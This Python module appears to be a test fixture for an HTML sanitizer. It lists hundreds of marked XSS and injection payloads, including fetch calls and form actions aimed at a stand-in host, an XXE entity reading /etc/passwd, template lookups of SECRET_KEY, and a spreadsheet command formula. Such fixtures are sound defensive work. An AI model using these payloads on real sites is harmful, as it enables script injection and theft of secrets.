"""What people type who want a page to act for them: the table, family by family.

Each text carries MARK in whatever it tries to become, so that an element or an
attribute that came from it is told from ours. EVALUATED stands on a page only
where a template read one of them as its own.
"""

import html
from base64 import b64encode
from itertools import product
from urllib.parse import quote

MARK = "zxq"
EVALUATED = f"{MARK}lived"
CALL = f"{MARK}()"
ELSEWHERE = f"//{MARK}.example"
_SCRIPT = f"<script>{CALL}</script>"

_OPENED = (
    "<script>", "<SCRIPT>", "<ScRiPt>", "<script >", "<script\t>", "<script\n>", "<script\f>",
    "<script/>", f"<script/{MARK}>", f"<script src={ELSEWHERE}/x.js>",
    f'<script src="https:{ELSEWHERE}/x.js" async>', f"<script src=data:,{CALL}>",
    "<script type=module>", "<script type=text/javascript>", "<script defer nonce=''>",
    f'<script nonce="{MARK}">', "<<script>", "<script<script>", "<scr<script>ipt>",
    "</script><script>", "</title><script>", "</textarea><script>", "</style><script>",
    "</noscript><script>", "--><script>", "]]><script>", "'><script>", '"><script>', "`><script>",
    "<svg><script>", "<math><script>", "<table><script>", "<select><script>",
    "<template><script>", "<noscript><script>", "<xmp><script>", "<!--><script>",
    "<!--->\n<script>", "<?><script>", "<![CDATA[><script>", "<p\n><script>", "&lt;p&gt;<script>",
)  # fmt: skip
SCRIPTS = [
    f"{opened}{body}{closed}"
    for opened in _OPENED
    for body, closed in ((CALL, "</script>"), (f"fetch('{ELSEWHERE}')", ""))
]
ENCODED = [
    _SCRIPT.replace("<", "&lt;").replace(">", "&gt;"),
    "".join(f"&#{ord(c)};" for c in _SCRIPT),
    "".join(f"&#{ord(c)}" for c in _SCRIPT),
    "".join(f"&#{ord(c):07d};" for c in _SCRIPT),
    "".join(f"&#x{ord(c):x};" for c in _SCRIPT),
    "".join(f"&#X{ord(c):X}" for c in _SCRIPT),
    html.escape(html.escape(_SCRIPT)),
    quote(_SCRIPT),
    quote(quote(_SCRIPT)),
    "".join(f"\\x{ord(c):02x}" for c in _SCRIPT),
    "".join(f"\\u{ord(c):04x}" for c in _SCRIPT),
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"\u2039script\u203a{CALL}\u2039/script\u203a",
    f"\u27e8script\u27e9{CALL}\u27e8/script\u27e9",
    b64encode(_SCRIPT.encode()).decode() + MARK,
]

_ACTS = (
    ("img", "src=x", "onerror"), ("image", "src=x", "onerror"), ("svg", "", "onload"),
    ("body", "", "onload"), ("body", "", "onpageshow"), ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("button", "", "onclick"), ("details", "open", "ontoggle"), ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"), ("video", "", "oncanplay"), ("source", "", "onerror"),
    ("marquee", "", "onstart"), ("iframe", "", "onload"), ("object", "data=x", "onerror"),
    ("embed", "src=x", "onload"), ("a", "href=/", "onclick"), ("div", "", "onmouseover"),
    ("p", "", "onpointerenter"), ("b", "style=animation-name:x", "onanimationstart"),
    ("form", "", "onsubmit"), ("style", "", "onload"), ("link", "rel=stylesheet", "onerror"),
    ("table", "", "oncopy"), ("x", "contenteditable", "onbeforeinput"),
)  # fmt: skip
EVENTS = [
    shape.format(tag=tag, more=more, event=event, call=CALL)
    for (tag, more, event), shape in product(
        _ACTS,
        (
            "<{tag} {more} {event}={call}>",
            '<{tag} {more} {event}="{call}">',
            "<{tag} {more} {event}='{call}'/>",
            "<{tag}/{more}/{event}={call}//>",
            "<{tag}\n{more}\n{event}\n=\n{call}\n>",
        ),
    )
] + [
    f"<{tag.upper()} {more} {event.title()}=&#{ord(MARK[0])};{MARK[1:]}&lpar;)>{MARK}"
    for tag, more, event in _ACTS
]

MUTATIONS = [
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={CALL}>\">",
    "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title=\"--&gt;&lt;img src=1 onerror={CALL}&gt;\">",
    f"<math><mtext><table><mglyph><style><math><img src=x onerror={CALL}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
    f"<noembed><img title=\"</noembed><img src onerror={CALL}>\">",
    f"<noframes><img title=\"</noframes><img src onerror={CALL}>\">",
    f"<xmp><img title=\"</xmp><img src onerror={CALL}>\">",
    f"<plaintext><img src=x onerror={CALL}>",
    f"<listing>&lt;img src=1 onerror={CALL}&gt;</listing>",
    f"<svg><foreignObject><iframe onload={CALL}></iframe></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{CALL}'/>#x\"/></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text y=20>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={CALL}>",
    f"<svg><image href=x onerror={CALL}>",
    f"<svg><a xlink:href=\"javascript:{CALL}\"><text>x</text></a></svg>",
    f"<svg><handler type=text/javascript>{CALL}</handler>",
    f"<svg><desc><![CDATA[</desc><script>{CALL}</script>]]></svg>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    f"<math><annotation-xml encoding=text/html><script>{CALL}</script></annotation-xml></math>",
    f"<template><script>{CALL}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={CALL}></template>",
    f"<select><template><img src=x onerror={CALL}></template></select>",
    f"<a><svg><desc><a><img src=x onerror={CALL}></a></desc></svg></a>",
    f"<table><td background=javascript:{CALL}>",
    f"<!--<img src='--><img src=x onerror={CALL}//'>",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f"<?xml-stylesheet href='javascript:{CALL}'?>",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<comment><img src='</comment><img src=x onerror={CALL}//'>",
    f"<style><img src='</style><img src=x onerror={CALL}//'>",
    f"<title><img src='</title><img src=x onerror={CALL}//'>",
]  # fmt: skip

_WHERE = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"javascript&#0000058{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;avascript:{CALL}",
    "".join(f"&#{ord(c)};" for c in "javascript:") + CALL,
    f"%6Aavascript:{CALL}",
    f"%6A%61vascript%3A{CALL}",
    f"javascript\\:{CALL}",
    f"\x01javascript:{CALL}",
    f"&#1;javascript:{CALL}",
    f"javascript://%0a{CALL}",
    f"javascript:/*--></title></style></textarea>*/{CALL}",
    f"java\u200bscript:{CALL}",
    f"java\u00adscript:{CALL}",
    f"\u202ejavascript:{CALL}",
    f"\uff4aavascript:{CALL}",
    f"javascr\u0131pt:{CALL}",
    f"vbscript:msgbox({MARK})",
    f"VBSCRIPT:{MARK}",
    f"data:text/html,<script>{CALL}</script>",
    f"data:text/html;base64,{b64encode(_SCRIPT.encode()).decode()}",
    f"data:image/svg+xml,<svg/onload={CALL}>",
    f"data:text/html;charset=utf-7,+ADw-script+AD4-{CALL}",
    f"feed:javascript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"livescript:{CALL}",
    f"file:///{MARK}",
    f"filesystem:https:{ELSEWHERE}/x",
    f"blob:https:{ELSEWHERE}/x",
    f"intent:{ELSEWHERE}#Intent;scheme=javascript;end",
]
LINKS = [
    shape.replace("URL", url)
    for url, shape in product(
        _WHERE,
        (
            "[x](URL)",
            "[x](<URL>)",
            "<URL>",
            "[x][r]\n\n[r]: URL",
            f"![{MARK}](URL)",
            '<a href="URL">x</a>',
        ),
    )
]

HTMX = [
    shape.format(name=name)
    for name in (
        "hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete", "hx-on:click", "hx-on--load",
        "hx-vals", "hx-headers", "hx-boost", "hx-ext", "hx-swap-oob", "data-hx-get",
        "data-hx-post", "data-hx-on:click",
    )
    for shape in (
        f'<div {{name}}="/staff/{MARK}/" hx-trigger="load">x</div>',
        f"<button {{name}}=/staff/{MARK}/ type=submit>x</button>",
    )
]  # fmt: skip

REMOTE = [
    f"![{MARK}]({ELSEWHERE}/p.gif)",
    f"![{MARK}](https:{ELSEWHERE}/p.gif 'x')",
    f"![{MARK}][r]\n\n[r]: https:{ELSEWHERE}/p.gif",
    f"![{MARK}]\n\n[{MARK}]: https:{ELSEWHERE}/p.gif",
    f"[![{MARK}](https:{ELSEWHERE}/p.gif)](https:{ELSEWHERE}/)",
    f"!\\[{MARK}](https:{ELSEWHERE}/p.gif)",
    f"<img src={ELSEWHERE}/p.gif>",
    f"<img src='https:{ELSEWHERE}/p.gif' width=1>",
    f"<img srcset='{ELSEWHERE}/p.gif 2x'>",
    f"<picture><source srcset={ELSEWHERE}/p.gif></picture>",
    f"<video poster={ELSEWHERE}/p.gif></video>",
    f"<video src={ELSEWHERE}/v.mp4 autoplay></video>",
    f"<audio src={ELSEWHERE}/a.mp3 autoplay></audio>",
    f"<track src={ELSEWHERE}/t.vtt>",
    f"<input type=image src={ELSEWHERE}/p.gif>",
    f"<body background={ELSEWHERE}/p.gif>",
    f"<table background={ELSEWHERE}/p.gif>",
    f"<svg><image href={ELSEWHERE}/p.gif></svg>",
    f"<link rel=prefetch href={ELSEWHERE}/>",
    f"<link rel=dns-prefetch href={ELSEWHERE}>",
    f"<a ping={ELSEWHERE} href=/>x</a>",
]

FRAMES = [
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    f"<object><param name=url value={ELSEWHERE}></object>",
    f"<embed src={ELSEWHERE}/x.swf>",
    f"<embed src=javascript:{CALL}>",
    f"<applet code={MARK}></applet>",
    f"<frameset><frame src={ELSEWHERE}></frameset>",
    f"<portal src={ELSEWHERE}></portal>",
    f"<base href={ELSEWHERE}/>",
    f"<base target={MARK}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url=https:{ELSEWHERE}'>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src '{MARK}'\">",
    f"<meta http-equiv=Set-Cookie content='{MARK}=1'>",
    f"<meta charset=utf-7 data-x={MARK}>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<style>body{{background:url({ELSEWHERE})}}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<link rel=import href={ELSEWHERE}>",
    f"<p style='background:url({ELSEWHERE})'>x</p>",
    f"<p style='position:fixed;inset:0;--{MARK}:1'>x</p>",
    f"<form action={ELSEWHERE}><input name=password></form>",
    f"<form><button formaction={ELSEWHERE}>x</button></form>",
    f"<form id={MARK}></form><button form={MARK} formaction=javascript:{CALL}>x</button>",
    f"<input name=csrfmiddlewaretoken id={MARK} form=helped-form>",
    f"<isindex action=javascript:{CALL}>",
    f"<dialog open class={MARK}>x</dialog>",
    f"<a class={MARK} href=/accounts/logout/>x</a>",
    f"<h1 id={MARK}>x</h1>",
    f"<b is={MARK}>x</b>",
    f"<{MARK}-card>x</{MARK}-card>",
    f"<{MARK}>",
    f"</{MARK}><b id={MARK}>",
]

# Out of the quotes of an attribute, or out of what holds text alone.
BREAKOUTS = [
    f"{out}{then}"
    for out in ('"', "'", '">', "'>", '"/>', "&quot;", "\\\"")
    for then in (
        f" onfocus={CALL} autofocus x=",
        f" style=--{MARK}:1 x=",
        f" formaction={ELSEWHERE} x=",
        f" hx-get=/{MARK} hx-trigger=load x=",
        f" {MARK} x=",
        f"<b {MARK}>",
    )
] + [
    f"{out}<b {MARK}>"
    for out in (
        "`", "-->", "]]>", "*/", "</textarea>", "</title>", "</option></select>", "</button>",
        "</script>", "</style>", "</noscript>", "</template>", "</svg>", "</a></li></ul></main>",
    )
] + [
    f"';{CALL};//", f'";{CALL};//', f"\\';{CALL};//", f"${{{CALL}}}", f"`;{CALL};`",
    f"\n{CALL}\n//",
]  # fmt: skip

TEMPLATES = [
    '{{ "zx"|add:"qlived" }}',
    '{% firstof "zx"|add:"qlived" %}',
    "{% if 1 %}zx{% endif %}qlived",
    "{# #}zx{# #}qlived{# #}",
    f"{{{{ request.user.password }}}}{MARK}",
    f"{{{{ settings.SECRET_KEY }}}}{MARK}",
    f'{{% include "{MARK}.html" %}}',
    f"{{% debug %}}{MARK}",
    f"{{{{ {MARK}|safe }}}}",
    f"{{% autoescape off %}}<b {MARK}>{{% endautoescape %}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"<%= {MARK} %>",
    f"#{{{MARK}}}",
    f"%({MARK})s",
    f"%s %d %n {MARK} 100%",
    f"{{0.__class__}} {{{MARK}}}",
    f"[[{CALL}]]",
]

MARKDOWN = [
    f"[x](https:{ELSEWHERE}/ \"\\\" onmouseover={CALL} x=\\\"\")",
    f"[x](https:{ELSEWHERE}/\"onmouseover=\"{CALL})",
    f"[x](https:{ELSEWHERE}/'onmouseover='{CALL})",
    f"[x](https:{ELSEWHERE}/&quot;onmouseover=&quot;{CALL})",
    f"[x](https:{ELSEWHERE}/<b {MARK}>)",
    f"<https:{ELSEWHERE}/<script>{CALL}</script>>",
    f"<https:{ELSEWHERE}/\"onclick={CALL}>",
    f"[x](<https:{ELSEWHERE}/\"><b {MARK}>>)",
    f"[[x](javascript:{CALL})](https:{ELSEWHERE})",
    f"[x](https:{ELSEWHERE}/[y](javascript:{CALL}))",
    f"[<b {MARK}>x</b>](/)",
    f"[x](/ (\"onclick={CALL}))",
    f"[x]({CALL} 'y' onclick={CALL})",
    f"[x]: javascript:{CALL} '\"><b {MARK}>'\n\n[x]",
    f"[x]\n\n[x]: <javascript:{CALL}>",
    f"```{MARK} onclick={CALL}\n<script>{CALL}</script>\n```",
    f"~~~\"><b {MARK}>\nx\n~~~",
    f"    <script>{CALL}</script>",
    f"`<script>{CALL}</script>`",
    f"``<b {MARK}>",
    f"# x {{onclick={CALL}}}",
    f"x\n{{: onclick=\"{CALL}\" }}",
    f"|x|\n|-|\n|<b {MARK}>|",
    f"> <b {MARK}>\n> x",
    f"- <b {MARK}>\n  1. <i {MARK}>",
    f"**<b {MARK}>**",
    f"*<b* {MARK}>",
    f"<b\n{MARK}>x</b>",
    f"\\<b {MARK}>",
    f"&lt;b {MARK}&gt;",
    f"&#60;b {MARK}&#62;",
    f"&amp;lt;b {MARK}&amp;gt;",
    f"<!-- --><b {MARK}>",
    f"[^1]\n\n[^1]: <b {MARK}>",
    f"@ben\"<b {MARK}>",
    f"@<b {MARK}>",
    f"http:{ELSEWHERE}/\"onclick={CALL}",
    f"www.{MARK}.example/<b {MARK}>",
    f"<{MARK}@{MARK}.example\"onclick={CALL}>",
    f"[x](mailto:a@b?body=<b {MARK}>)",
    f"<b {MARK}\n\n>x",
    f"<style\n\n>@import '{ELSEWHERE}'",
]  # fmt: skip

STRANGE = [
    f"<scr\x00ipt>{CALL}</scr\x00ipt>",
    f"<\x00script>{CALL}</script>",
    f"<img src=x o\x00nerror={CALL}>",
    f"<script\x0b>{CALL}</script>",
    f"<img\x0bsrc=x\x0bonerror={CALL}>",
    f"<img\xa0src=x\xa0onerror={CALL}>",
    f"<img\x0csrc=x\x0conerror={CALL}>",
    f"<img\rsrc=x\ronerror={CALL}>",
    f"<img src=x onerror\u2028={CALL}>",
    f"\ufeff<b {MARK}>",
    f"\ufffe<b {MARK}>",
    f"\u202e<b {MARK}>",
    f"\u2066<b {MARK}>\u2069",
    f"\u200b<b {MARK}>\u200b",
    f"<\u200bscript>{CALL}</script>",
    f"<\u0301b {MARK}>",
    f"<b\u0338 {MARK}>",
    f"<\u0073cript>{CALL}</\u017fcript>",
    f"<\u017fcript>{CALL}</\u017fcript>",
    f"<\u212aey {MARK}>",
    f"\u0130<img src=x onerror={CALL}>",
    f"\ud7ff\ue000<b {MARK}>\ufdd0",
    f"\U000e0041<b {MARK}>",
    f"\x7f\x80\x9b<b {MARK}>",
    f"\u2028<b {MARK}>\u2029",
]

# For what is no page: feeds, calendars, tables, letters' heads.
ELSEWHERES = [
    f"]]><{MARK}/><![CDATA[",
    f"</title><link href='javascript:{CALL}'/>",
    f"<!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]>&{MARK};",
    f"<?xml version='1.0'?><{MARK}/>",
    f"\r\nBEGIN:VALARM\r\nX-{MARK.upper()}:1\r\nEND:VALARM",
    f"\r\nURL:javascript:{CALL}",
    f"\r\nBcc: {MARK}@example.org",
    f"\r\n\r\n<script>{CALL}</script>",
    f'=HYPERLINK("https:{ELSEWHERE}","{MARK}")',
    f"=cmd|'/c {MARK}'!A0",
    f"+{MARK}",
    f"-{MARK}",
    f"@{MARK}",
    f"\t={MARK}",
    f'","{MARK}","',
    f"\\n{MARK};X-{MARK.upper()}:1",
]

# What becomes an element or an attribute wherever it stands unescaped between tags.
ACTIVE = tuple(dict.fromkeys([*SCRIPTS, *EVENTS, *MUTATIONS, *HTMX, *FRAMES]))
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *ACTIVE, *ENCODED, *LINKS, *REMOTE, *BREAKOUTS, *TEMPLATES, *MARKDOWN, *STRANGE,
            *ELSEWHERES,
        ]
    )
)  # fmt: skip
